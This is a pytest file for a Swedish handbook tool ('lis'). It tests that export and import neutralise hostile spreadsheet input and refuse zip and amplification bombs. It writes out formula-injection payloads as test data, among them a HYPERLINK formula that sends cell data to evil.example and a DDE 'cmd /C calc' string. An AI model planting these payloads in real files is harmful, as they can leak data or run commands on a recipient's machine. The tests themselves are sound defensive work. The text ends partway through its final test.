"""Every `lis` command against hostile input: Swedish messages, no tracebacks, nothing half-written.

Most tests call `macros.cli.main` in-process (fast); a few run the installed command or `make`.
"""

from __future__ import annotations

import csv
import fcntl
import io
import os
import re
import shutil
import signal
import subprocess
import sys
import time
import zipfile
from datetime import date, datetime
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.utils import get_column_letter
from openpyxl.utils.exceptions import IllegalCharacterError

from macros import cli, lock, navcheck, publish, scaffold, sheetfile
from macros.audience import Audience
from macros.columns import position
from macros.documents import split_front_matter
from macros.loader import load_handbook
from macros.models import Classification, Dpia, System
from macros.registers.actions import ACTION_COLUMNS
from macros.registers.systems import SYSTEM_COLUMNS
from macros.spreadsheet import import_inventory
from macros.swedish import translate
from macros.yamlsource import parse_yaml, read_yaml_file
from macros.yamltext import scalar
from tests.build_helpers import ROOT, build, copy_project
from tests.conftest import FIXTURE_DATA, empty_inventory, replace_in
from tests.fixture_project import fixture_project
from tests.hostile_commands import PAYLOADS

LIS_DATE = "2026-11-28"


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The fixture project as the current folder, with a fixed build date: the commands' tests never
    depend on the example content, which the coordinator replaces.

    The fixture project (tests/fixture_project.py) gets the two pages the theme and the generated
    pages link to, so `lis bygg`'s link check passes."""
    root = fixture_project(tmp_path / "handbook")
    for page, title in (("om-handboken/tillganglighet.md", "Tillgänglighet"),
                        ("ledningens-genomgang/index.md", "Ledningens genomgång")):
        (root / "docs" / page).parent.mkdir(parents=True, exist_ok=True)
        (root / "docs" / page).write_text(f"# {title}\n\nProvsida.\n", encoding="utf-8")
    monkeypatch.chdir(root)
    monkeypatch.setenv("LIS_DATE", LIS_DATE)
    return root


@pytest.fixture
def example_project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A copy of the real handbook as the current folder, for the tests still tied to it: they edit its
    menu (nav in mkdocs.yml, which the fixture project leaves out), its pages or its example systems.
    Move a test to `project` when its literals come from the fixture project."""
    root = copy_project(tmp_path / "handbook")
    monkeypatch.chdir(root)
    monkeypatch.setenv("LIS_DATE", LIS_DATE)
    return root


def lis(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    """Run `lis ARGS` in-process; exit status, stdout, stderr."""
    code = cli.main(list(args))
    out, err = capsys.readouterr()
    return code, out, err


def snapshot(root: Path) -> dict[str, bytes]:
    """Every file under `root` (except caches) with its content: compare before and after a command."""
    return {p.relative_to(root).as_posix(): p.read_bytes() for p in sorted(root.rglob("*"))
            if p.is_file() and "__pycache__" not in p.parts and p.name != ".lis-bygg.lock"}


def exported_rows(root: Path) -> list[list[str]]:
    with (root / "export/systemforteckning.csv").open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle, delimiter=";"))


# --- 1. Formula injection and control characters in exports -------------------------------------

HOSTILE_CELLS = {
    "namn": '=HYPERLINK("http://evil.example/?"&A2,"Klicka")',
    "leverantör": "+1+cmd|' /C calc'!A0",
    "systemägare": "-2+3",
    "syfte": "@SUM(1+1)",
}


def _poison_first_system(root: Path) -> None:
    path = root / "data/system.yaml"
    text = path.read_text(encoding="utf-8")
    start = text.index("\n  - id: ") + 1  # whichever system comes first
    end = text.index("\n  - id:", start + 1)
    entry = text[start:end]
    for key, value in HOSTILE_CELLS.items():
        entry = re.sub(rf"^    {key}: .*$", f"    {key}: '{value.replace(chr(39), chr(39) * 2)}'", entry,
                       count=1, flags=re.M)
    path.write_text(text[:start] + entry + text[end:], encoding="utf-8")


@pytest.mark.process  # lis export stamps the handbook version from git
def test_export_writes_formula_like_text_as_text(project, capsys):
    _poison_first_system(project)
    plan = project / "data/atgarder.yaml"
    plan.write_text(re.sub(r"^    område: .*$", r'    område: "\\t=1+1 \\v och \\0"',
                           plan.read_text(encoding="utf-8"), count=1, flags=re.M), encoding="utf-8")
    code, out, err = lis(capsys, "export")
    assert code == 0, err
    sheet = load_workbook(project / "export/systemforteckning.xlsx").active
    headers = [c.value for c in sheet[1]]
    row = {h: c for h, c in zip(headers, sheet[2], strict=True)}
    assert row["Namn"].value == HOSTILE_CELLS["namn"]
    for header in ("Namn", "Leverantör", "Systemägare", "Syfte"):
        assert row[header].data_type == "s" and row[header].quotePrefix, header
    assert all(c.data_type != "f" for line in sheet.iter_rows() for c in line)
    assert row["Id"].quotePrefix is False  # ordinary text is left alone
    csv_row = dict(zip(headers, exported_rows(project)[1], strict=True))
    assert [csv_row[h] for h in ("Namn", "Syfte", "Förvaltningsobjekt", "Systemägare", "Leverantör")] == [
        "'" + HOSTILE_CELLS["namn"], "'@SUM(1+1)", "individ-och-familj", "'-2+3", "'+1+cmd|' /C calc'!A0"]
    plan = load_workbook(project / "export/handlingsplan.xlsx").active
    area = plan.cell(2, position(ACTION_COLUMNS, "Område"))
    assert area.value == "=1+1 \n och " and area.data_type == "s" and area.quotePrefix


@pytest.mark.process  # lis export stamps the handbook version from git
@pytest.mark.parametrize("suffix", ["xlsx", "csv"])
def test_neutralised_cells_come_back_unchanged_on_import(example_project, capsys, suffix):
    _poison_first_system(example_project)
    replace_in(example_project / "data/system.yaml", "    namn: Dokumentationsstöd öppenvård\n",
               "    namn: \"'=apostrof först\"\n")
    original = load_handbook(example_project / "data").systems
    assert lis(capsys, "export")[0] == 0
    empty_inventory(example_project / "data")
    code, out, err = lis(capsys, "import", f"export/systemforteckning.{suffix}")
    assert code == 0, err
    assert load_handbook(example_project / "data").systems == original


# Class *the spreadsheet round trip is the identity* (issue 23; klientgranskning MEDIUM-3): texts that
# look like formulas, and texts that really start with an apostrophe, through every route a
# coordinator takes between the export and the import. LibreOffice shows the CSV guard apostrophe as
# part of the text and keeps it when it saves .xlsx; it drops the .xlsx text marking (quotePrefix)
# and writes formula-like text raw into a CSV. (Observed with LibreOffice 7.4, sv-SE.)
ROUND_TRIP_TEXTS = {"namn": "=1+1", "syfte": "'=1+1", "leverantör": "@SUM(1,2)", "systemägare": "-2+3"}
ROUND_TRIP_MORE = {"namn": "'apostrof", "leverantör": "''=två apostrofer", "syfte": "+46 8 508 000 00"}


def _round_trip_project(root: Path) -> bytes:
    """The first two systems hold the texts above (quoted as a coordinator would); the file's bytes."""
    path = root / "data/system.yaml"
    text = path.read_text(encoding="utf-8")
    for number, values in enumerate((ROUND_TRIP_TEXTS, ROUND_TRIP_MORE)):
        begin, end = [m.start() for m in re.finditer(r"^  - id: ", text, re.M)][number:number + 2]
        entry = text[begin:end]
        for key, value in values.items():
            entry = re.sub(rf"^    {key}: .*$", lambda _, k=key, v=value: f"    {k}: {scalar(v)}", entry, count=1,
                           flags=re.M)
        text = text[:begin] + entry + text[end:]
    path.write_text(text, encoding="utf-8")
    return path.read_bytes()


def _as_libreoffice_reads(value: str) -> object:
    """A CSV cell as LibreOffice (sv-SE, "detect special numbers") reads it: ISO dates and whole numbers typed."""
    if re.fullmatch(r"\d{4}-\d{2}-\d{2}", value):
        return datetime.fromisoformat(value)
    return int(value) if re.fullmatch(r"-?\d{1,9}", value) else value


def _as_libreoffice_saves(source: Path, target: Path) -> Path:
    """What LibreOffice makes of our file when it is saved again in the other format (see above)."""
    if source.suffix == ".csv":
        with source.open(encoding="utf-8-sig", newline="") as handle:  # the guard apostrophe stays in the text
            rows = [[_as_libreoffice_reads(v) for v in row] for row in csv.reader(handle, delimiter=";")]
    else:
        rows = [list(row) for row in load_workbook(source).active.iter_rows(values_only=True)]
    if target.suffix == ".csv":  # Swedish "CSV (semikolonavgränsad)": Windows-1252, text written raw
        _rows_file(target, [["" if v is None else v.date().isoformat() if isinstance(v, datetime) else str(v)
                             for v in row] for row in rows], "cp1252")
    else:  # text cells (never formulas) without quotePrefix, dates as dates
        book = Workbook()
        for row in rows:
            book.active.append(row)
        for line in book.active.iter_rows():
            for cell in line:
                if isinstance(cell.value, str):
                    cell.data_type = "s"
        book.save(target)
    return target


@pytest.mark.process  # lis export stamps the handbook version from git
@pytest.mark.parametrize("route", ["csv", "xlsx", "csv>xlsx", "csv>csv", "xlsx>xlsx", "xlsx>csv"])
def test_every_spreadsheet_route_gives_back_what_went_out(example_project, capsys, tmp_path, route):
    """Twice round, so a guard that grows (''=1+1) shows. LibreOffice simulated as observed; the test
    below runs the real program."""
    original = _round_trip_project(example_project)
    first, _, then = route.partition(">")
    for turn in range(2):
        assert lis(capsys, "export", "--mapp", f"ut{turn}")[0] == 0
        source = example_project / f"ut{turn}/systemforteckning.{first}"
        if then:
            source = _as_libreoffice_saves(source, tmp_path / f"sparad{turn}.{then}")
        code, out, err = lis(capsys, "import", "--ersatt", str(source))
        assert (code, err) == (0, "")
        assert out == f"Importerade {source.name}: 0 nya, 0 ersatta och 30 oförändrade system.\n"
    assert (example_project / "data/system.yaml").read_bytes() == original


LIBREOFFICE_CSV_IN = "--infilter=Text - txt - csv (StarCalc):59,34,76,1,,1053,false,true"  # ; " UTF-8 sv-SE
LIBREOFFICE_SAVES = {"xlsx": "xlsx", "csv": "csv:Text - txt - csv (StarCalc):59,34,1,1,,1053"}  # cp1252


@pytest.mark.process
@pytest.mark.parametrize("route", ["csv>xlsx", "csv>csv", "xlsx>xlsx", "xlsx>csv"])
def test_a_round_trip_through_libreoffice_changes_nothing(example_project, capsys, tmp_path, route):
    soffice = shutil.which("soffice")
    if soffice is None:
        pytest.skip("LibreOffice finns inte (apt-get install libreoffice-calc-nogui); simuleringen ovan gäller")
    original = _round_trip_project(example_project)
    first, _, then = route.partition(">")
    env = {**os.environ, "HOME": str(tmp_path)}
    for turn in range(2):
        assert lis(capsys, "export", "--mapp", f"ut{turn}")[0] == 0
        options = [LIBREOFFICE_CSV_IN] if first == "csv" else []
        saved = tmp_path / f"lo{turn}"
        subprocess.run([soffice, f"-env:UserInstallation={(tmp_path / 'profil').as_uri()}", "--headless", *options,
                        "--convert-to", LIBREOFFICE_SAVES[then], "--outdir", str(saved),
                        str(example_project / f"ut{turn}/systemforteckning.{first}")],
                       env=env, capture_output=True, check=True, timeout=300)
        source = saved / f"systemforteckning.{then}"
        code, out, err = lis(capsys, "import", "--ersatt", str(source))
        assert (code, err) == (0, "")
        assert out == f"Importerade {source.name}: 0 nya, 0 ersatta och 30 oförändrade system.\n"
    assert (example_project / "data/system.yaml").read_bytes() == original


@pytest.mark.process  # lis export stamps the handbook version from git
def test_an_imported_formula_text_is_exported_as_text(example_project, capsys, tmp_path):
    assert lis(capsys, "export")[0] == 0
    book = load_workbook(example_project / "export/systemforteckning.xlsx")
    new = {"Id": "ny-lank", "Namn": '=HYPERLINK("http://evil.example/","Klicka")', "Syfte": "Syfte.",
           "Förvaltningsobjekt": "ekonomi", "Systemägare": "Chef", "Leverantör": "AB", "Stadsgemensamt": "nej",
           "Personuppgifter": "inga", "Samhällsviktig": "nej", "PUB-avtal": "finns",
           "Konsekvensbedömning krävs": "nej"}
    for header, value in new.items():
        book.active.cell(32, position(SYSTEM_COLUMNS, header), value)
    name = f"{get_column_letter(position(SYSTEM_COLUMNS, 'Namn'))}32"
    book.active[name].data_type = "s"  # a text cell, as a hostile sender would make it
    source = tmp_path / "in.xlsx"
    book.save(source)
    code, _, err = lis(capsys, "import", str(source))
    assert code == 0, err
    assert load_handbook(example_project / "data").systems[-1].name == '=HYPERLINK("http://evil.example/","Klicka")'
    assert lis(capsys, "export", "--mapp", "ut2")[0] == 0
    cell = load_workbook(example_project / "ut2/systemforteckning.xlsx").active[name]
    assert cell.data_type == "s" and cell.quotePrefix


# --- 2. Import: files people really have ----------------------------------------------------------


def _rows_file(path: Path, rows: list[list[str]], encoding: str = "utf-8", delimiter: str = ";") -> Path:
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=delimiter, lineterminator="\r\n").writerows(rows)
    path.write_bytes(buffer.getvalue().encode(encoding))
    return path


def _new_row(rows: list[list[str]], system_id: str, name: str) -> list[str]:
    row = list(rows[1])
    row[0], row[1] = system_id, name
    return row


@pytest.mark.process  # lis export stamps the handbook version from git
@pytest.mark.parametrize("encoding", ["cp1252", "utf-8", "utf-8-sig"])
def test_import_reads_csv_as_swedish_excel_saves_it(project, capsys, tmp_path, encoding):
    assert lis(capsys, "export")[0] == 0
    rows = exported_rows(project)
    source = _rows_file(tmp_path / "excel.csv", [rows[0], _new_row(rows, "nytt-ao", "Åtgärdsöversikt")], encoding)
    code, out, err = lis(capsys, "import", str(source))
    assert code == 0, err
    assert out == "Importerade excel.csv: 1 nytt, 0 ersatta och 0 oförändrade system.\n"
    assert load_handbook(project / "data").systems[-1].name == "Åtgärdsöversikt"


@pytest.mark.parametrize(("name", "content", "message"), [
    ("fel.xlsx", b"inte en zip", "Fel: fel.xlsx är ingen Excel-fil (.xlsx), fast namnet slutar på .xlsx"),
    ("slump.csv", bytes(range(256)) * 4, "Fel: slump.csv är varken UTF-8 eller Windows-1252 (Excel)"),
    ("tom.csv", b"", "  - rad 1: filen är tom"),
    ("en-kolumn.csv", b"Id\nx\n", '  - rad 2, kolumn Namn (finns inte i filen): fältet saknas men måste finnas'),
    ("utan-id.csv", b"Namn;Syfte\nX;Y\n", '  - rad 1: kolumnen "Id" saknas; rubrikerna ska vara: Id, Namn'),
    ("finns-inte.xlsx", None, "Fel: filen "),
    ("mapp.csv", "dir", "Fel: mapp.csv är en mapp, inte en fil"),
    ("fil.txt", b"Id\n", "Fel: fil.txt: filen måste sluta på .xlsx eller .csv"),
])
def test_import_refuses_unreadable_files_in_swedish(project, capsys, tmp_path, name, content, message):
    source = tmp_path / name
    if content == "dir":
        source.mkdir()
    elif content is not None:
        source.write_bytes(content)
    before = snapshot(project)
    code, out, err = lis(capsys, "import", str(source))
    assert code == 1 and out == ""
    assert message in err
    assert "Traceback" not in err
    assert snapshot(project) == before


def _xlsx_with_sheet_xml(path: Path, sheet_xml_chunks: list[bytes]) -> Path:
    """A minimal workbook whose first sheet's XML is written in chunks (so it can be huge)."""
    base = Workbook()
    base.active["A1"] = "Id"
    template = path.with_suffix(".mall.xlsx")
    base.save(template)
    with zipfile.ZipFile(template) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            if info.filename == "xl/worksheets/sheet1.xml":
                with target.open(info.filename, "w", force_zip64=True) as handle:
                    for chunk in sheet_xml_chunks:
                        handle.write(chunk)
            else:
                target.writestr(info, source.read(info.filename))
    return path


def test_import_refuses_a_zip_bomb_before_unpacking_it(project, capsys, tmp_path):
    head = (b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
            b'<row r="1"><c r="A1" t="inlineStr"><is><t>')
    chunk = b"A" * 10_000_000
    bomb = _xlsx_with_sheet_xml(tmp_path / "bomb.xlsx", [head, *[chunk] * 11, b"</t></is></c></row></sheetData></worksheet>"])
    assert bomb.stat().st_size < 1_000_000
    code, _, err = lis(capsys, "import", str(bomb))
    assert code == 1
    assert err.startswith("Fel: bomb.xlsx packas upp till 110 MB; största tillåtna är 100 MB")


def test_import_bounds_cell_length_and_row_count(project, capsys, tmp_path):
    long_cell = _rows_file(tmp_path / "lang.csv", [["Id", "Namn"], ["x", "A" * 10_001]])
    code, _, err = lis(capsys, "import", str(long_cell))
    assert (code, err) == (1, "Fel: lang.csv, rad 2, kolumn 2: cellen har 10001 tecken; högst 10000 är tillåtna\n")
    many = _rows_file(tmp_path / "manga.csv", [["Id"], *[["x"]] * (sheetfile.MAX_ROWS + 1)])
    code, _, err = lis(capsys, "import", str(many))
    assert (code, err) == (1, "Fel: manga.csv har fler än 10 000 rader (system) under rubrikraden; så många system "
                              "har ingen förvaltning. Dela upp filen\n")
    wide = _rows_file(tmp_path / "bred.csv", [["Id"], ["x"] * 101])
    code, _, err = lis(capsys, "import", str(wide))
    assert (code, err) == (1, "Fel: bred.csv, rad 2: raden har fler än 100 ifyllda celler; systemförteckningen har "
                              "ungefär 25 kolumner\n")


# Class *amplification* (issue 23, M5): small input, absurd output. Every cell refers to one shared
# string of 9 999 characters: 34 kB of .xlsx became 40 MB of YAML. Limits per field and in total.
def _shared_string_bomb(path: Path, headers: list[str], rows: int) -> Path:
    book = Workbook()
    book.active.append(headers)
    text = "A" * 9_999
    for i in range(rows):
        book.active.append([f"bomb-{i}", *[text] * (len(headers) - 1)])
    book.save(path)  # openpyxl stores the repeated text once, in the shared strings
    return path


def test_import_refuses_an_amplification_bomb_before_writing(project, capsys, tmp_path):
    headers = ["Id", "Namn", "Syfte", "Systemägare", "Leverantör", "Förvaltningsobjekt"]
    bomb = _shared_string_bomb(tmp_path / "bomb.xlsx", headers, 1_000)
    assert bomb.stat().st_size < 200_000  # and 1 000 rows × 5 cells × 9 999 characters = 50 million
    before = snapshot(project)
    code, out, err = lis(capsys, "import", str(bomb))
    assert (code, out) == (1, "")
    assert err == ("Fel: bomb.xlsx innehåller mer än 5 000 000 tecken text (gränsen nåddes på rad 101); det är "
                   "långt mer än en systemförteckning behöver. Ingenting har importerats\n")
    assert snapshot(project) == before


@pytest.mark.parametrize(("column", "length", "limit"), [(0, 81, 80), (1, 201, 200), (2, 2_001, 2_000),
                                                          (5, 201, 200)])
@pytest.mark.process  # lis export stamps the handbook version from git
def test_import_bounds_each_field(project, capsys, tmp_path, column, length, limit):
    assert lis(capsys, "export")[0] == 0
    rows = exported_rows(project)
    row = _new_row(rows, "langt", "Långt")
    row[column] = "a" * length
    source = _rows_file(tmp_path / "falt.csv", [rows[0], row])
    before = snapshot(project)
    code, _, err = lis(capsys, "import", str(source))
    header = rows[0][column]
    assert code == 1
    assert (f"  - rad 2, kolumn {column + 1} ({header}): cellen har {length} tecken; högst {limit} är tillåtna i "
            f"{header}") in err.splitlines()
    assert snapshot(project) == before
    row[column] = "a" * limit if column != 5 else rows[1][5]  # at the limit: accepted (or the object's real id)
    _rows_file(source, [rows[0], row])
    if column == 0:
        code, _, err = lis(capsys, "import", str(source))
        assert code == 0, err


@pytest.mark.process  # git
def test_a_one_field_change_through_import_ersatt_is_a_one_line_diff(example_project, capsys, tmp_path):
    """Samordnarvecka P7 (issue 31): only the supplier changed, but the diff showed 7 lines of quoting."""
    for args in (["init", "-q"], ["add", "-A"], ["-c", "user.name=T", "-c", "user.email=t@x", "commit", "-qm", "x"]):
        subprocess.run(["git", *args], cwd=example_project, check=True, capture_output=True)
    assert lis(capsys, "export")[0] == 0
    book = load_workbook(example_project / "export/systemforteckning.xlsx")
    book.active.cell(3, position(SYSTEM_COLUMNS, "Leverantör"), "Ny leverantör AB")
    book.save(tmp_path / "andrad.xlsx")
    code, out, err = lis(capsys, "import", "--ersatt", str(tmp_path / "andrad.xlsx"))
    assert (code, err) == (0, "")
    assert out == "Importerade andrad.xlsx: 0 nya, 1 ersatt och 29 oförändrade system.\n"
    numstat = subprocess.run(["git", "diff", "--numstat"], cwd=example_project, check=True, capture_output=True, text=True)
    assert numstat.stdout == "1\t1\tdata/system.yaml\n"
    diff = subprocess.run(["git", "diff", "-U0"], cwd=example_project, check=True, capture_output=True, text=True).stdout
    assert [line for line in diff.splitlines() if line[:1] in "+-" and line[:3] not in ("+++", "---")] == [
        "-    leverantör: Omsorgsdata AB", "+    leverantör: Ny leverantör AB"]


@pytest.mark.process  # lis export stamps the handbook version from git
def test_an_imported_system_is_appended_as_a_person_writes_it(example_project, capsys, tmp_path):
    assert lis(capsys, "export")[0] == 0
    rows = exported_rows(example_project)
    before = (example_project / "data/system.yaml").read_text(encoding="utf-8")
    source = _rows_file(tmp_path / "ny.csv", [rows[0], _new_row(rows, "nytt-system", "Nytt system")])
    assert lis(capsys, "import", str(source))[0] == 0
    after = (example_project / "data/system.yaml").read_text(encoding="utf-8")
    assert after.startswith(before.rstrip("\n") + "\n\n  - id: nytt-system\n    namn: Nytt system\n")
    added = after[len(before):]
    assert "    stadsgemensamt: ja\n" in added and "    i_drift_sedan: 2012-03-01\n" in added
    assert "      krävs: ja\n" in added and '"' not in added


def test_import_refuses_a_duplicate_column(project, capsys, tmp_path):
    """Which of two "Namn" columns wins was a silent guess (issue 23, L5)."""
    source = _rows_file(tmp_path / "dubbel.csv", [["Id", "Namn", "Namn"], ["x", "Första", "Andra"]])
    before = snapshot(project)
    code, _, err = lis(capsys, "import", str(source))
    assert (code, err) == (1, "Ingenting har importerats. Rätta raderna och försök igen:\n"
                              '  - rad 1: kolumnen "Namn" finns två gånger\n')
    assert snapshot(project) == before


@pytest.mark.process  # lis export stamps the handbook version from git
def test_import_reads_rows_beyond_a_stale_dimension(project, capsys, tmp_path):
    assert lis(capsys, "export")[0] == 0
    rows = exported_rows(project)
    book = Workbook()
    for row in [rows[0], *(_new_row(rows, f"stale-{i}", f"System {i}") for i in range(3))]:
        book.active.append(row)
    good = tmp_path / "bra.xlsx"
    book.save(good)
    stale = tmp_path / "gammal-storlek.xlsx"
    with zipfile.ZipFile(good) as source, zipfile.ZipFile(stale, "w") as target:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                data, count = re.subn(rb'<dimension ref="[^"]+"', b'<dimension ref="A1:V2"', data)
                assert count == 1
            target.writestr(info, data)
    code, out, err = lis(capsys, "import", str(stale))
    assert code == 0, err
    assert out.startswith("Importerade gammal-storlek.xlsx: 3 nya")


@pytest.mark.process  # lis export stamps the handbook version from git
@pytest.mark.sweep
def test_import_time_grows_linearly(project, capsys, tmp_path):
    assert lis(capsys, "export")[0] == 0
    rows = exported_rows(project)
    hb = load_handbook(project / "data")

    def seconds(count: int) -> float:
        source = _rows_file(tmp_path / f"{count}.csv",
                            [rows[0], *(_new_row(rows, f"s-{i}", f"System {i}") for i in range(count))])
        started = time.process_time()  # this process's CPU time: steadier on a loaded machine
        _, summary = import_inventory(project / "data", hb, source, replace=False)
        assert len(summary) == count
        return time.process_time() - started

    small = min(seconds(sheetfile.MAX_ROWS // 10) for _ in range(2))
    large = min(seconds(sheetfile.MAX_ROWS) for _ in range(2))
    # Linear: about 10 times as long. The old quadratic append took about 50 times as long (49 s).
    assert large < 25 * small and large < 60


@pytest.mark.process  # lis export stamps the handbook version from git
def test_import_runs_the_personal_number_guard(project, capsys, tmp_path):
    assert lis(capsys, "export")[0] == 0
    rows = exported_rows(project)
    row = _new_row(rows, "pnr", "Kontakt 900101-1239")
    source = _rows_file(tmp_path / "pnr.csv", [rows[0], row])
    before = snapshot(project)
    code, _, err = lis(capsys, "import", str(source))
    assert code == 1
    assert ("  - rad 2, kolumn 2 (Namn): 900101-1239 ser ut som ett personnummer eller samordningsnummer; "
            "personuppgifter får inte finnas i handboken") in err.splitlines()
    assert snapshot(project) == before


@pytest.mark.process  # lis export stamps the handbook version from git
@pytest.mark.parametrize("name", ["1_000", "0b101", "0x1F", "1.5e+3", "Ja", "null", "~", ".inf", "12:30",
                                  "Foo: bar # baz", "*alias", "- punkt", "rad\u2028två", "tab\there"])
@pytest.mark.sweep
def test_import_keeps_number_like_names_as_text(project, capsys, tmp_path, name):
    assert lis(capsys, "export")[0] == 0
    rows = exported_rows(project)
    source = _rows_file(tmp_path / "namn.csv", [rows[0], _new_row(rows, "nummer", name)])
    code, _, err = lis(capsys, "import", str(source))
    assert code == 0, err
    assert load_handbook(project / "data").systems[-1].name == name


def test_import_names_the_missing_id_column_even_with_unknown_headers(project, capsys, tmp_path):
    source = _rows_file(tmp_path / "fel.csv", [["Namn", "Anteckning"], ["X", "Y"]])
    code, _, err = lis(capsys, "import", str(source))
    assert code == 1
    lines = err.splitlines()
    assert lines[1].startswith("  - rad 1: okända rubriker: Anteckning; rubrikerna ska vara: Id, Namn")
    assert lines[2].startswith('  - rad 1: kolumnen "Id" saknas')


@pytest.mark.process  # lis export stamps the handbook version from git
def test_import_into_a_read_only_inventory_says_so(project, capsys, tmp_path):
    assert lis(capsys, "export")[0] == 0
    rows = exported_rows(project)
    source = _rows_file(tmp_path / "ny.csv", [rows[0], _new_row(rows, "ny", "Ny")])
    (project / "data/system.yaml").chmod(0o444)
    if os.access(project / "data/system.yaml", os.W_OK):
        pytest.skip("körs som root: skrivskyddet gäller inte")
    code, _, err = lis(capsys, "import", str(source))
    assert code == 1
    assert err.startswith("Fel: kan inte skriva data/system.yaml: behörighet saknas")
    assert "Traceback" not in err


# --- 3. Export and PDF never overwrite -------------------------------------------------------------


@pytest.mark.process  # lis export stamps the handbook version from git
def test_export_refuses_to_overwrite_without_ersatt(project, capsys):
    assert lis(capsys, "export")[0] == 0
    before = snapshot(project)
    code, _, err = lis(capsys, "export")
    assert code == 1
    assert "export/systemforteckning.csv" in err and "(skrivet av lis export)" in err
    assert "lägg till --ersatt för att ersätta det. Ingenting har ändrats." in err
    assert snapshot(project) == before
    code, out, _ = lis(capsys, "export", "--ersatt")
    assert code == 0 and out.startswith("Skrev export/systemforteckning.xlsx")
    assert (project / "export/systemforteckning.csv").read_text(encoding="utf-8-sig").startswith("Id;Namn")


@pytest.mark.process  # lis export stamps the handbook version from git
def test_export_never_replaces_a_file_someone_changed(project, capsys):
    assert lis(capsys, "export")[0] == 0
    (project / "export/systemforteckning.csv").write_text("min egen fil", encoding="utf-8")
    before = snapshot(project)
    for args in (["export"], ["export", "--ersatt"]):
        code, _, err = lis(capsys, *args)
        assert code == 1
        assert err == (f"Fel: {project}/export/systemforteckning.csv finns redan och är inget som lis export har "
                       "skrivit där (eller så har något ändrats i det sedan dess). Inget kommando tar bort eller "
                       "skriver över något som det inte själv har skrivit. Välj en annan plats. Ingenting har "
                       "ändrats.\n")
        assert snapshot(project) == before


@pytest.mark.parametrize(("folder", "message"), [
    ("/dev/null/x", "Fel: /dev/null finns men är ingen mapp; ingenting har skrivits"),
    ("fil", "finns men är ingen mapp; ingenting har skrivits"),
    ("/proc/export", "Fel: kan inte skapa mappen /proc/export: "),
])
def test_export_to_an_impossible_folder_says_so(project, capsys, folder, message):
    (project / "fil").write_text("x", encoding="utf-8")
    before = snapshot(project)
    code, _, err = lis(capsys, "export", "--mapp", folder)
    assert code == 1 and message in err and "Traceback" not in err
    assert snapshot(project) == before


@pytest.mark.parametrize(("args", "message"), [
    (["²"], 'Fel: "²" är varken ett år med ledningens genomgång eller ett styrdokument.'),  # issue 23, L2
    (["ledningens-genomgang/①"], 'Fel: "ledningens-genomgang/①" är varken ett år med ledningens genomgång'),
    (["٢٠٢٥"], 'Fel: "٢٠٢٥" är varken ett år med ledningens genomgång'),
])
@pytest.mark.process
def test_pdf_reads_only_ascii_digits_as_a_year(project, capsys, args, message):
    code, _, err = lis(capsys, "pdf", *args)
    assert code == 1 and err.startswith(message) and "Traceback" not in err


@pytest.mark.parametrize(("args", "message"), [
    (["--ut", "/dev/null/x.pdf"], "Fel: /dev/null finns men är ingen mapp"),
    (["--ut", "finns.pdf"], "finns.pdf finns redan och är inget som lis pdf har skrivit där"),
    (["--ut", "finns.pdf", "--ersatt"], "finns.pdf finns redan och är inget som lis pdf har skrivit där"),
    (["--ut", "."], "är handbokens egen mapp; där skriver och ersätter inget kommando något"),
    (["--ut", "docs/rutiner/incidenthantering.md", "--ersatt"], "är en del av handbokens källor (docs/)"),
    (["--ut", "mkdocs.yml", "--ersatt"], "mkdocs.yml finns redan och är inget som lis pdf har skrivit där"),
])
@pytest.mark.process
def test_pdf_refuses_bad_or_existing_targets_before_building(project, capsys, args, message):
    (project / "finns.pdf").write_bytes(b"%PDF gammal")
    before = snapshot(project)
    started = time.monotonic()
    code, _, err = lis(capsys, "pdf", "2025", *args)
    assert code == 1 and message in err
    assert time.monotonic() - started < 5  # refused before the build
    assert snapshot(project) == before


# --- 4. Scaffolding writes valid YAML or nothing ----------------------------------------------------


@pytest.mark.parametrize("name", ["Ekonomi: ny", "#1 System", "Ja", "[lista]", "{a: 1}", "*alias", "&ankare x",
                                  "!tagg x", "1_000", "'citat", '"citat"', "% procent", "@ snabel", "x # y"])
@pytest.mark.sweep
def test_nytt_system_writes_any_name_as_text(project, capsys, name):
    code, _, err = lis(capsys, "nytt-system", "nytt-x", "--namn", name, "--objekt", "ekonomi")
    assert code == 0, err
    data, problems = read_yaml_file(project / "data/system.yaml", "system.yaml")
    assert problems == []
    assert data["system"][-1]["namn"] == name and data["system"][-1]["syfte"] == "ÄNDRA"
    code, _, err = lis(capsys, "kontrollera")
    assert code == 1 and err.count("fältet är inte ifyllt") == 8  # only the fields left to fill in


# Fields `lis nytt-system` leaves out on purpose: each is added when it happens (avvecklat, uppföljd) or when
# the agreement is signed (Om handboken's page on PUB-avtal says how).
NOT_IN_THE_NEW_SYSTEM_TEMPLATE = {"avvecklat", "uppföljd", "pub_avtal_undertecknat", "pub_avtal_referens"}


def test_the_new_system_template_names_every_field_of_a_system():
    """Review 2026-12: a field added to the system model was missing from the template, and no test noticed.
    Every field of a system is either in the template (perhaps commented out, to fill in later) or named above;
    every required one is in the template."""
    template = scaffold.SYSTEM_TEMPLATE.replace("$classification", scaffold._classification_lines(load_handbook(FIXTURE_DATA).scale))
    written = set(re.findall(r"^    (?:# )?(\w+):", template, flags=re.M)) | {"id"}
    fields = {info.alias or name: info.is_required() for name, info in System.model_fields.items()}
    assert written | NOT_IN_THE_NEW_SYSTEM_TEMPLATE == set(fields)
    assert not written & NOT_IN_THE_NEW_SYSTEM_TEMPLATE
    assert not {key for key, required in fields.items() if required} & NOT_IN_THE_NEW_SYSTEM_TEMPLATE
    nested = set(re.findall(r"^    (?:#   |  )(\w+):", template, flags=re.M))
    for model in (Classification, Dpia):
        assert {info.alias for info in model.model_fields.values() if info.is_required()} <= nested


def test_nytt_system_shows_where_the_classification_goes_and_keeps_the_files_blank_lines(example_project, capsys):
    path = example_project / "data/system.yaml"
    before = path.read_text(encoding="utf-8").rstrip("\n")
    assert "\n\n  - id: " in before  # the example inventory separates its systems by a blank line
